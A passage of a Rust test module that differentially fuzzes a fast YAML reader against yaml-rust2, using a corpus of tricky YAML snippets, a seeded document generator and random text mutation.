        "[a]: b\n",
        "a: {a: 1, b: [2, 3], c: {d: e}}\n",
        "a: {a:1}\n",
        "a: {a: }\n",
        "a: {a}\n",
        "a: {\"a\": 1, 'b': \"2\"}\n",
        "a: {\"a\":1}\n",
        "a: []\nb: {}\n",
        "a: [ ]\nb: { }\n",
        "a: ~\nb: null\nc: true\nd: 010\ne: 1.5\n",
        "<<: {a: 1}\nb: 2\n",
        "a: 1\na: 2\n",
        "1: a\n01: b\n",
        "a: &x 1\nb: *x\n",
        "a: !!str 1\n",
        "a: !x 1\n",
        "? a\n: b\n",
        "a: @x\n",
        "a: `x`\n",
        "a: %x\n",
        "a: >\n  folded\n",
        "a: |2\n   x\n",
        "a: |\n  x\n",
        "a: |\n  x",
        "a: |\n  x\n  y\n",
        "a: |\n  x\n\n  y\n",
        "a: |\n  x\n   y\n  z\n",
        "a: |\n\n  x\n",
        "a: |\n  \n  x\n",
        "a: |\n    \n  x\n",
        "a: |\n  x\n    \n  y\n",
        "a: |\n  x\n \n  y\n",
        "a: |\n  x\n  \n",
        "a: |\n  x\n   \n",
        "a: |\n  x\n\n\nb: 1\n",
        "a: |-\n  x\n\n\nb: 1\n",
        "a: |+\n  x\n\n\nb: 1\n",
        "a: |+\n  x\n\n\n",
        "a: |+\n  x\n\n",
        "a: |+\n  x",
        "a: |-\n  x",
        "a: |+\n  x\n\n# c\n\nb: 1\n",
        "a: |\n  x\n# c\nb: 1\n",
        "a: |\n  x\n  # not a comment\nb: 1\n",
        "a: |\n  x\n # c\nb: 1\n",
        "a: | # c\n  x\n",
        "a: |#c\n  x\n",
        "a: |x\n  x\n",
        "a: |\nb: 1\n",
        "a: |\n",
        "a: |",
        "a: |\n  x\n y\n",
        "a: |\n  x\n\tb\n",
        "a: |\n  x\ty\n",
        "a: |\n  x\n  ---\n",
        "a: |\n  x\n---\n",
        "- |\n  x\n- |-\n  y\n- |+\n  z\n\n",
        "- |\n x\n",
        "- a: |\n    x\n  b: |\n    y\n",
        "- a: |\n   x\n",
        "- a: |\n  x\n",
        "k:\n- |\n  x\n",
        "k:\n- |\n x\n",
        "|\n  x\n",
        "a:\n  |\n  x\n",
        "a: x\n\n\n",
        "a: x   \n",
        "a: x   # c   \n",
        "a  : x\n",
        "\"a\" : x\n",
        "'a': x\n\"b\": y\n",
        "a b: c d\n",
        "a:  b  c  \n",
        "a: b:c\n",
        "a: b :c\n",
        "a: b : c\n",
        "a: http://x.y/z?q=1#frag\n",
        "a: -1\nb: +1\nc: .5\n",
        "a: ?x\n",
        "a: :x\n",
        "a: ,x\n",
        "a: ]\n",
        "a: }\n",
        "a: x]\n",
        "a: x,y\n",
        "a: x{y}\n",
        "a: #\n",
        "a: b\n#\n",
        "#a: b\nc: d\n",
        " # indented comment\na: b\n",
        "a:\n  # comment\n  b: 1\n",
        "a:\n# comment\n  b: 1\n",
        "a:\n\n\n  b: 1\n",
        "a:\n  b:\n    c:\n      d: 1\n  e: 2\nf: 3\n",
        "a:\n    b: 1\n    c: 2\n",
        "a:\n  b: 1\n  - c\n",
        "- a\nb: 1\n",
        "a: 1\n- b\n",
        "...\n",
        "---\n---\n",
        "----\n",
        "--- \n",
        "a: ---\n",
        "a:\n  ---\n",
        "a: 'x' # c\n",
        "a: \"x\" # c\n",
        "a: 'x'   \n",
        "a: [a, \"b, c\", 'd]']\n",
        "a: [\"x\" , 'y' ]\n",
        "a: [\"x\"y]\n",
        "a: x\r\nb: y\r\n",
        "a: x\u{85}b\n",
        "a: x\u{2028}\n",
        "\u{feff}a: b\n",
        "a: \u{7f}\n",
        "a: \u{1}\n",
        "a: 'é''é'\nb: \"é\\\"é\"\n",
        "ü:\n  - é: ö\n    ä: [ß]\n",
        "- é\n- - ü\n  - ö\n",
        "x: - \n",
        "a:\n -\n",
        "a:\n - b\n -\n - c\n",
        "a: [\n",
        "a: ]\n",
        "a: {\n",
        "a: [a]]\n",
        "a: [a] ]\n",
        "a: 'x\n",
        "a: \"x\n",
        "a: \"x",
        "a: 'x",
    ];

    /// Both readers agree (or the fast one gives up); returns whether the fast one read it.
    fn agree(text: &str) -> bool {
        let fast = build(&mut FastEvents::new(text), text);
        if fast == Err(Stop::Unsupported) {
            return false;
        }
        let slow = build(&mut Rust2Events::new(text), text);
        assert_eq!(
            fast,
            slow,
            "the readers differ on {text:?}\nfast events: {:?}\nyaml-rust2 events: {:?}",
            events(&mut FastEvents::new(text)),
            events(&mut Rust2Events::new(text))
        );
        true
    }

    fn events(e: &mut dyn Events) -> Vec<String> {
        let mut out = Vec::new();
        loop {
            match e.next_event() {
                Ok((ev, p)) => {
                    let end = ev == Event::StreamEnd;
                    out.push(format!("{ev:?}@{}:{}:{}", p.offset, p.line, p.col));
                    if end {
                        break;
                    }
                }
                Err(e) => {
                    out.push(format!("{e:?}"));
                    break;
                }
            }
        }
        out
    }

    fn handled(text: &str) -> Parsed {
        assert!(agree(text), "the fast reader gave up on {text:?}");
        build(&mut FastEvents::new(text), text).unwrap()
    }

    #[test]
    fn the_readers_agree_on_the_corpus() {
        let mut read = 0;
        for text in FROM_TESTS.iter().chain(TRICKY).chain([&FIXTURE, &REALISTIC]) {
            read += usize::from(agree(text));
        }
        assert!(read > TRICKY.len() / 2, "the fast reader read only {read} texts");
    }

    /// The key `key`'s node in a parsed mapping.
    fn key_node<'p>(map: &'p super::super::Node, key: &str) -> &'p super::super::Node {
        let super::super::Kind::Map(entries) = &map.kind else { panic!("not a mapping") };
        &entries.iter().find(|(k, _)| matches!(&k.kind, super::super::Kind::Scalar(s) if s.text == key)).expect("the key").0
    }

    #[test]
    fn nodes_after_non_ascii_literal_blocks_are_placed_at_their_bytes() {
        // yaml-rust2's own character index runs ahead here; both readers must not.
        let text = "a: |\n  echo \"✓ done\" é\nlabel: x\n";
        let fast = handled(text);
        let node = key_node(&fast.root, "label");
        assert_eq!((node.offset, node.line, node.col), (text.find("label").unwrap(), 3, 0));
        let text = "a: é\r\nb: |\r\n  ✓ x\r\nlabel: y\r\n";
        let slow = build(&mut Rust2Events::new(text), text).unwrap();
        assert_eq!(key_node(&slow.root, "label").offset, text.find("label").unwrap());
        assert_eq!(key_node(&slow.root, "b").offset, text.find("b:").unwrap());
    }

    #[test]
    fn deep_documents_are_left_to_yaml_rust2() {
        let deep = format!("{}x{}", "[".repeat(300), "]".repeat(300));
        assert_eq!(read(&deep).err().map(|_| ()), Some(()));
        agree(&format!("{}x{}", "[".repeat(100), "]".repeat(100)));
        let nested = |n: usize| (0..n).map(|i| format!("{}k:\n", " ".repeat(i))).collect::<String>();
        assert!(read(&nested(100)).is_ok());
        agree(&nested(100));
        assert!(read(&nested(300)).is_err());
    }

    #[test]
    fn the_fast_reader_takes_the_common_subset() {
        handled(&pipeline_text(50));
        handled(FIXTURE);
        let p = handled(REALISTIC);
        assert!(p.root.get("steps").is_some());
        for text in [
            "a: b\n",
            "a: b",
            "",
            "# c",
            "- a: 1\n  b: [x, 'y', \"z\"]\n- wait\n",
            "a:\n- x\n- y\n",
            "a: |\n  x\n",
            "a: |-\n  x\n",
            "a: |+\n  x\n\n",
            "a: {b: c}\n",
            "a: \"\\u00e9 \\t\"\n",
            "a: 'it''s'\n",
            "a:\nb: ~\n",
            "- - x\n  - y\n",
            "---\na: 1\n",
            "a: 1 # c",
        ] {
            handled(text);
        }
    }

    /// A small deterministic generator (xorshift64*).
    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 >> 12;
            self.0 ^= self.0 << 25;
            self.0 ^= self.0 >> 27;
            self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }

        fn chance(&mut self, percent: usize) -> bool {
            self.below(100) < percent
        }

        fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
            from[self.below(from.len())]
        }
    }

    const WORDS: &[&str] = &["a", "b", "x1", "make test", "echo $X", "01", "true", "~", "null", "1.5", "-x", "--flag", "a:b", "a#b", "é", "✓ ok", "http://x/y", "docker#v1.0", "<<", "0x1F", "key"];
    const NASTY: &[&str] = &[
        "#", " #", ": ", ":", "-", "- ", "'", "\"", "''", "[", "]", "{", "}", ",", "|", ">", "&a ", "*a", "!t ", "\t", "é", "✓", "  ", "~", "?", "? ", "%", "@", "`", "\\", "\\n", "\\u00e9", "---", "...", "\n", "\n  ", "\n- ", " ", "|-", "\r", "\u{1}", "\u{7f}", "\u{85}", "\u{feff}", "\u{2028}", "\u{1b}",
    ];
    const ESCAPES: &[&str] = &["\\n", "\\t", "\\\\", "\\\"", "\\/", "\\u00e9", "\\x41", "\\U0001F600", "\\0", "\\e", "\\ ", "\\_", "\\q", "\\u12", "\\ud800"];

    struct Gen {
        rng: Rng,
        /// Percent chance of a nasty token at each place one may go.
        nasty: usize,
    }

    impl Gen {
        fn maybe_nasty(&mut self, out: &mut String) {
            if self.rng.chance(self.nasty) {
                out.push_str(self.rng.pick(NASTY));
            }
        }

        fn words(&mut self, out: &mut String) {
            for w in 0..1 + self.rng.below(3) {
                if w > 0 {
                    out.push(' ');
                }
                out.push_str(self.rng.pick(WORDS));
                self.maybe_nasty(out);
            }
        }

        fn scalar(&mut self, out: &mut String, flow: bool) {
            match self.rng.below(if flow { 3 } else { 4 }) {
                0 | 3 => self.words(out),
                1 => {
                    out.push('\'');
                    self.words(out);
                    if self.rng.chance(20) {
                        out.push_str("''");
                    }
                    out.push('\'');
                }
                _ => {
                    out.push('"');
                    self.words(out);
                    if self.rng.chance(40) {
                        out.push_str(self.rng.pick(ESCAPES));
                    }
                    out.push('"');
                }
            }
        }

        fn flow(&mut self, out: &mut String, depth: usize) {
            let map = self.rng.chance(40);
            out.push(if map { '{' } else { '[' });
            for i in 0..self.rng.below(4) {
                if i > 0 {
                    out.push_str(", ");
                }
                if map {
                    self.scalar(out, true);
                    out.push_str(": ");
                }
                if depth < 2 && self.rng.chance(20) {
                    self.flow(out, depth + 1);
                } else {
                    self.scalar(out, true);
                }
                self.maybe_nasty(out);
            }
            out.push(if map { '}' } else { ']' });
        }

        fn comment(&mut self, out: &mut String) {
            if self.rng.chance(15) {
                out.push_str(" # note");
                self.maybe_nasty(out);
            }
            if self.rng.chance(10) {
                out.push_str("  ");
            }
        }

        fn literal(&mut self, out: &mut String, indent: usize) {
            out.push('|');
            out.push_str(self.rng.pick(&["", "", "-", "+"]));
            self.comment(out);
            out.push('\n');
            let at = indent + 1 + self.rng.below(3);
            for _ in 0..1 + self.rng.below(4) {
                match self.rng.below(6) {
                    0 => out.push('\n'),
                    1 => {
                        out.push_str(&" ".repeat(at + 2));
                        self.words(out);
                        out.push('\n');
                    }
                    _ => {
                        out.push_str(&" ".repeat(at));
                        self.words(out);
                        out.push('\n');
                    }
                }
            }
            for _ in 0..self.rng.below(3) {
                out.push('\n');
            }
        }

        /// A value after `key:` or `-` (the line so far is in `out`).
        fn value(&mut self, out: &mut String, indent: usize, depth: usize, in_seq: bool) {
            let choice = self.rng.below(if depth < 4 { 9 } else { 5 });
            match choice {
                0 => {
                    self.comment(out);
                    out.push('\n');
                }
                1 => {
                    out.push(' ');
                    self.literal(out, indent);
                }
                2 => {
                    out.push(' ');
                    self.flow(out, 0);
                    self.comment(out);
                    out.push('\n');
                }
                3 | 4 => {
                    out.push(' ');
                    self.scalar(out, false);
                    self.comment(out);
                    out.push('\n');
                }
                5 if in_seq => {
                    // Compact: `- key: value` or `- - x`.
                    out.push(' ');
                    let col = out.len() - out.rfind('\n').map_or(0, |i| i + 1);
                    let mut inner = String::new();
                    self.block(&mut inner, col, depth + 1);
                    out.push_str(&inner[col.min(inner.len())..]);
                }
                _ => {
                    self.comment(out);
                    out.push('\n');
                    let step = match self.rng.below(10) {
                        0 if !in_seq => 0,
                        1 => 1,
                        2 => 4,
                        _ => 2,
                    };
                    self.block(out, indent + step, depth + 1);
                }
            }
        }

        fn block(&mut self, out: &mut String, indent: usize, depth: usize) {
            let seq = self.rng.chance(40);
            for _ in 0..1 + self.rng.below(3) {
                if self.rng.chance(8) {
                    out.push_str(&" ".repeat(self.rng.below(6)));
                    out.push_str("# comment\n");
                }
                if self.rng.chance(8) {
                    out.push('\n');
                }
                let wobble = if self.rng.chance(self.nasty / 2) { self.rng.below(3) } else { 0 };
                out.push_str(&" ".repeat(indent + wobble));
                if seq {
                    out.push('-');
                    self.value(out, indent, depth, true);
                } else {
                    self.scalar(out, false);
                    if self.rng.chance(5) {
                        out.push_str("  ");
                    }
                    out.push(':');
                    self.maybe_nasty(out);
                    self.value(out, indent, depth, false);
                }
            }
        }

        fn document(&mut self) -> String {
            let mut out = String::new();
            if self.rng.chance(10) {
                out.push_str("---\n");
            }
            if self.rng.chance(10) {
                out.push_str("# head\n");
            }
            match self.rng.below(10) {
                // A document that is one scalar or flow collection.
                0 => self.scalar(&mut out, false),
                1 => self.flow(&mut out, 0),
                _ => {
                    let indent = self.rng.below(2);
                    self.block(&mut out, indent, 0);
                }
            }
            if self.rng.chance(5) {
                out.push_str(self.rng.pick(&["\n---\nx: 1\n", "\n...\n", "\nx\n", "\n  x: y\n"]));
            }
            match self.rng.below(5) {
                0 => {
                    out.pop();
                }
                1 => out.push_str("# tail"),
                2 => out.push_str("\n\n"),
                _ => {}
            }
            out
        }
    }

    #[test]
    fn the_readers_agree_on_generated_documents() {
        let mut read = 0;
        let mut total = 0;
        for (seed, nasty) in [(1u64, 0), (2, 3), (3, 10)] {
            let mut g = Gen { rng: Rng(0x9e37_79b9_7f4a_7c15 ^ seed), nasty };
            let before = read;
            for _ in 0..3000 * scale() {
                let doc = g.document();
                total += 1;
                let ok = agree(&doc);
                read += usize::from(ok);
            }
            // Clean documents are mostly in the subset, nasty ones less so.
            assert!(read - before > 3000 * scale() / 4, "the fast reader read only {} documents at nastiness {nasty}", read - before);
        }
        // Most clean documents are in the subset: the test must not pass by giving up.
        assert!(read * 3 > total, "the fast reader read only {read} of {total} documents");
    }

    #[test]
    fn the_readers_agree_on_mutated_texts() {
        let mut rng = Rng(0x1234_5678_9abc_def1);
        let seeds: Vec<String> = TRICKY.iter().map(|s| s.to_string()).chain([FIXTURE.to_string(), REALISTIC.to_string(), pipeline_text(4)]).filter(|s| s.len() > 4).collect();
        for _ in 0..3000 * scale() {
            let mut text: Vec<char> = seeds[rng.below(seeds.len())].chars().collect();
            for _ in 0..1 + rng.below(3) {
                let at = rng.below(text.len() + 1);
                match rng.below(3) {
                    0 if at < text.len() => {
                        text.remove(at);
                    }
                    1 if at < text.len() => text[at] = rng.pick(NASTY).chars().next().unwrap_or(' '),
                    _ => {
                        for (k, c) in rng.pick(NASTY).chars().enumerate() {
                            text.insert(at + k, c);
                        }
                    }
                }
            }
            agree(&text.into_iter().collect::<String>());
        }
    }

    /// KEYTAP_YAML_FUZZ_SCALE=N runs the generated and mutated checks N times longer.
    fn scale() -> usize {
        std::env::var("KEYTAP_YAML_FUZZ_SCALE").ok().and_then(|s| s.parse().ok()).unwrap_or(1)
    }

    // `pipeline_text(steps)`: the benchmark's pipeline.
    include!(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/buildkite/bench_pipeline.rs"));
}
